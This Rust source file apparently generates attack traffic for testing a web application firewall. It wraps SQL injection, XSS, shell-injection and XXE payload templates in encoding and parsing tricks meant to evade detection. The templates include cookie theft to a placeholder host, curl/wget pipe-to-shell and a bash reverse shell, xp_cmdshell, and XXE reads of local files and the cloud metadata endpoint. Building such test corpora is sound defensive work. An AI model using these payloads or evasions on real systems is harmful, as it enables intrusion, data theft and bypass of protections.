//! Ordinary attacks in odd wrapping: bodies in pieces, in other character sets, compressed, files, values inside values.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, request};
use super::super::super::codec;
use super::super::super::encode::Encoding::{self, Base64, JsonEscape, Percent, PercentU, Plain, Utf7};
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::super::super::wire::{FORM, JSON, Part, Wire, multipart};
use super::super::super::words;
use super::make::{Whole, agent, one};

pub(super) const ATTACKS: &[AttackGrammar] = &[
    request("sqli-odd-wrapping", AttackClass::Sqli, 40, |rng| wrapped(rng, SQL)),
    request("xss-odd-wrapping", AttackClass::Xss, 38, |rng| wrapped(rng, XSS)),
    request("shell-odd-wrapping", AttackClass::Shell, 38, |rng| wrapped(rng, SHELL)),
    request("sqli-split-parameters", AttackClass::Sqli, 35, split),
    request("xxe-files-and-charsets", AttackClass::Xxe, 36, documents),
];

const SQL: &[&str] = &[
    "-§d' union select 1,§s,§n-- ",
    "§n' and updatexml(1,concat(0x7e,(select §s)),1)-- ",
    "1' and sleep(§d)-- ",
    "1;exec master..xp_cmdshell '§k'--",
    "admin' or '§n'='§n",
    "1) or (select count(*) from sys_user where user_name like '§w%')>0-- ",
    "§w' and 1=(select count(*) from all_users) and 'a'='a",
    "1 and (select ascii(substr(password,§d,1)) from t_user limit 1)>§n",
];
const XSS: &[&str] = &[
    "<script>alert(§n)</script>",
    "<img src=x onerror=alert(§n)>",
    "\"><svg onload=alert('§w')>",
    "<iframe src=\"javascript:alert(§n)\">",
    "<details open ontoggle=alert('§w')>",
    "<script src=//§h/§w.js></script>",
    "<a href=\"javascript:fetch('//§h/'+document.cookie)\">§w</a>",
];
const SHELL: &[&str] = &[
    "127.0.0.1;§c",
    "127.0.0.1|cat /§f",
    "$(curl http://§h/§w)",
    "`wget http://§h/§w.sh -O- | sh`",
    "x && bash -i >& /dev/tcp/10.9.8.7/§n 0>&1",
    "a.zip;ping -c §d §h",
    "|| nslookup §w.§h ||",
];

fn wrapped(rng: &mut Rng, templates: &[&str]) -> Whole {
    let payload = String::from_utf8(one(rng, templates)).expect("text");
    let page =
        rng.pick(&["/his/query.do", "/api/v1/search", "/index.php", "/report/list.aspx", "/emr/save", "/user/login"]);
    let name = rng.pick(&["id", "name", "keyword", "ip", "code", "content", "orderNo"]);
    let sent = |rng: &mut Rng, wire: Wire, place: Place, encoding: Encoding| {
        (agent(rng, wire, place).finish(rng), place, encoding)
    };
    let object = format!("{{\"{name}\":{},\"page\":1}}", codec::json(&payload));
    match rng.below(14) {
        // A body in small chunks, with comments between them: what a plug-in for proxies does for its user.
        0 | 1 => (chunked(rng, page, FORM, &format!("{name}={}&page=1", codec::form(&payload))), Place::Form, Plain),
        2 => (chunked(rng, page, JSON, &object), Place::Json, Plain),
        3 => {
            let wire = Wire::post(page, JSON, codec::gzip(object.as_bytes())).header("Content-Encoding", "gzip");
            sent(rng, wire, Place::Json, Plain)
        }
        4 => {
            let wire = Wire::post(page, "application/json; charset=utf-16", codec::utf16_le(&object));
            sent(rng, wire, Place::Json, Plain)
        }
        5 => {
            let body = format!("{name}={}&page=1", ibm037(&payload));
            let wire = Wire::post(page, "application/x-www-form-urlencoded; charset=ibm037", body);
            sent(rng, wire, Place::Form, Percent)
        }
        6 => {
            let body = format!("data={}&sign={}", codec::form(&object), rng.hex(32));
            let wire = Wire::post(page, FORM, body);
            sent(rng, wire, Place::Form, Plain)
        }
        7 => {
            let inner = format!("{{\"biz\":{},\"ts\":{}}}", codec::json(&object), words::millis(rng));
            let wire = Wire::post(page, JSON, inner);
            sent(rng, wire, Place::Json, JsonEscape)
        }
        8 => {
            let target = format!("{page}?data={}&v=2", codec::percent(codec::base64(&object)));
            sent(rng, Wire::get(target), Place::Query, Base64)
        }
        9 => {
            // A token whose signature nobody checks.
            let claims = codec::base64_url(format!("{{\"sub\":{},\"iat\":1790000000}}", codec::json(&payload)));
            let token = format!("{}.{claims}.", codec::base64_url("{\"alg\":\"none\",\"typ\":\"JWT\"}"));
            sent(rng, Wire::get(page).header("Authorization", format!("Bearer {token}")), Place::Header, Base64)
        }
        10 => {
            let file = format!("{payload}.jpg").replace('"', "%22");
            let parts = [Part::field("type", "1"), Part::file("file", &file, "image/jpeg", words::jpeg(rng, 40))];
            let (kind, body) = multipart(&parts, rng);
            sent(rng, Wire::post(page, &kind, body), Place::Multipart, Plain)
        }
        11 => {
            // The part says base64, and some parsers listen.
            let boundary = rng.token(20);
            let body = format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--{boundary}--\r\n",
                codec::base64(&payload)
            );
            let wire = Wire::post(page, &format!("multipart/form-data; boundary={boundary}"), body);
            sent(rng, wire, Place::Multipart, Base64)
        }
        12 => {
            // Signs in full width, which a database or a page maps to the narrow ones.
            let wide: String = payload
                .chars()
                .map(|sign| {
                    if "'<>\"=;|()".contains(sign) {
                        char::from_u32(u32::from(sign) + 0xfee0).expect("a sign")
                    } else {
                        sign
                    }
                })
                .collect();
            let target = format!("{page}?{name}={}", codec::percent(wide));
            sent(rng, Wire::get(target), Place::Query, Percent)
        }
        _ => {
            let units: String = payload.encode_utf16().map(|unit| format!("%u{unit:04X}")).collect();
            let wire = Wire::post(page, FORM, format!("{name}={units}&page={}", rng.below(50)));
            sent(rng, wire, Place::Form, PercentU)
        }
    }
}

/// A request whose body comes in chunks of one to four bytes.
fn chunked(rng: &mut Rng, page: &str, kind: &str, body: &str) -> Vec<u8> {
    let host = rng.pick(words::HOSTS);
    let head = format!(
        "POST {page} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\nContent-Type: {kind}\r\nTransfer-Encoding: chunked\r\n\r\n"
    );
    let comments = rng.chance(60);
    let mut bytes = head.into_bytes();
    let mut rest = body.as_bytes();
    while !rest.is_empty() {
        let (chunk, more) = rest.split_at(rng.between(1, 4).min(rest.len()));
        let comment = if comments { format!(";{}", rng.token(12)) } else { String::new() };
        bytes.extend_from_slice(format!("{:x}{comment}\r\n", chunk.len()).as_bytes());
        bytes.extend_from_slice(chunk);
        bytes.extend_from_slice(b"\r\n");
        rest = more;
    }
    bytes.extend_from_slice(b"0\r\n\r\n");
    bytes
}

/// EBCDIC as percent escapes: servers that obey the charset of a form read it back.
fn ibm037(text: &str) -> String {
    const SIGNS: &[(char, u8)] = &[
        (' ', 0x40),
        ('.', 0x4b),
        ('<', 0x4c),
        ('(', 0x4d),
        ('+', 0x4e),
        ('|', 0x4f),
        ('&', 0x50),
        ('!', 0x5a),
        ('$', 0x5b),
        ('*', 0x5c),
        (')', 0x5d),
        (';', 0x5e),
        ('-', 0x60),
        ('/', 0x61),
        (',', 0x6b),
        ('%', 0x6c),
        ('_', 0x6d),
        ('>', 0x6e),
        ('?', 0x6f),
        ('`', 0x79),
        (':', 0x7a),
        ('#', 0x7b),
        ('@', 0x7c),
        ('\'', 0x7d),
        ('=', 0x7e),
        ('"', 0x7f),
        ('~', 0xa1),
        ('[', 0xba),
        (']', 0xbb),
        ('{', 0xc0),
        ('}', 0xd0),
        ('\\', 0xe0),
    ];
    let code = |sign: char| match sign {
        'a'..='i' => sign as u8 - b'a' + 0x81,
        'j'..='r' => sign as u8 - b'j' + 0x91,
        's'..='z' => sign as u8 - b's' + 0xa2,
        'A'..='I' => sign as u8 - b'A' + 0xc1,
        'J'..='R' => sign as u8 - b'J' + 0xd1,
        'S'..='Z' => sign as u8 - b'S' + 0xe2,
        '0'..='9' => sign as u8 - b'0' + 0xf0,
        _ => SIGNS.iter().find(|(known, _)| *known == sign).map_or(0x6f, |(_, code)| *code),
    };
    text.chars().map(|sign| format!("%{:02X}", code(sign))).collect()
}

/// The same parameter several times: ASP and ASP.NET join the values with a comma, other programs take the last.
fn split(rng: &mut Rng) -> Whole {
    let page = rng.pick(&["/news/show.asp", "/list.aspx", "/doctor/detail.aspx", "/search.asp", "/api/query"]);
    let number = rng.between(1, 9999);
    let word = rng.letters(5);
    let values: Vec<String> = match rng.below(7) {
        0 => vec![
            format!("{number} union/*"),
            "*/select 1".to_owned(),
            "name".to_owned(),
            format!("pwd from admin--{word}"),
        ],
        1 => vec![format!("-{number} union select 1"), "@@version".to_owned(), format!("{number}-- ")],
        2 => vec![
            format!("{number}/*"),
            "*/and/*".to_owned(),
            format!("*/1=(select/*{word}"),
            "*/count(*)from/*".to_owned(),
            "*/users)".to_owned(),
        ],
        3 => vec![format!("{number}';waitfor/*"), format!("*/delay'0:0:5'--{word}")],
        4 => vec![format!("{number}"), format!("{number}' or '{word}'='{word}")],
        5 => vec![format!("{number} and exists(select/*"), format!("*/* from users where id like '{word}%')")],
        _ => vec![
            format!("{number};declare @{word} varchar(99) set @{word}=db_name()/*"),
            format!("*/exec('select '+@{word})--"),
        ],
    };
    let name = rng.pick(&["id", "q", "cid"]);
    let form = rng.chance(50);
    let pairs: Vec<String> = values
        .iter()
        .map(|value| format!("{name}={}", if form { codec::form(value) } else { codec::percent(value) }))
        .collect();
    let (wire, place) = match rng.below(3) {
        0 => (Wire::get(format!("{page}?{}", pairs.join("&"))), Place::Query),
        1 if form => {
            (Wire::post(format!("{page}?{}", pairs[0].replace('+', "%20")), FORM, pairs[1..].join("&")), Place::Form)
        }
        _ => (Wire::post(page, FORM, pairs.join("&")), Place::Form),
    };
    (agent(rng, wire, place).finish(rng), place, Plain)
}

/// Drawings, tracks, lists and pages as files, and documents in other character sets.
fn documents(rng: &mut Rng) -> Whole {
    let document = String::from_utf8(one(rng, DOCUMENTS)).expect("text");
    let page = rng.pick(&["/upload/avatar", "/api/import", "/emr/attachment/save", "/ueditor/upload", "/svg/convert"]);
    let (wire, place, encoding) = match rng.below(6) {
        0 => (Wire::post(page, "application/xml; charset=utf-16le", codec::utf16_le(&document)), Place::Xml, Plain),
        1 => (Wire::post(page, "text/xml", codec::utf16_be(&document)), Place::Xml, Plain),
        2 => {
            let text = document.replace('<', "+ADw-").replace('>', "+AD4-").replace('"', "+ACI-").replace('&', "+ACY-");
            (
                Wire::post(
                    page,
                    "text/xml; charset=utf-7",
                    format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{text}"),
                ),
                Place::Xml,
                Utf7,
            )
        }
        3 => (Wire::post(page, "text/plain", document), Place::Xml, Plain),
        _ => {
            let (name, kind) = rng.pick(&[
                ("logo.svg", "image/svg+xml"),
                ("track.gpx", "application/gpx+xml"),
                ("list.xml", "text/xml"),
                ("photo.svg", "image/png"),
                ("settings.plist", "application/octet-stream"),
            ]);
            let parts = [Part::field("id", rng.digits(4)), Part::file("file", name, kind, document)];
            let (kind, body) = multipart(&parts, rng);
            (Wire::post(page, &kind, body), Place::Multipart, Plain)
        }
    };
    (agent(rng, wire, place).finish(rng), place, encoding)
}

const DOCUMENTS: &[&str] = &[
    "<!DOCTYPE svg [<!ENTITY §v SYSTEM \"file:///§f\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&§v;</text></svg>",
    "<!DOCTYPE r [<!ENTITY % §v SYSTEM \"http://§h/§w.dtd\">%§v;]><r/>",
    "<!DOCTYPE gpx [<!ENTITY §v SYSTEM \"file:///§f\">]><gpx><name>&§v;</name></gpx>",
    "<!DOCTYPE plist [<!ENTITY §v SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><plist><string>&§v;</string></plist>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"file:///§f\" width=\"§n\"/><text><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///§f\" parse=\"text\"/></text></svg>",
    "<!DOCTYPE patient SYSTEM \"http://§h/§w.dtd\"><patient><id>§n</id></patient>",
    "<!DOCTYPE w:document [<!ENTITY §v PUBLIC \"§w\" \"http://§h/\">]><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:t>&§v;</w:t></w:document>",
];
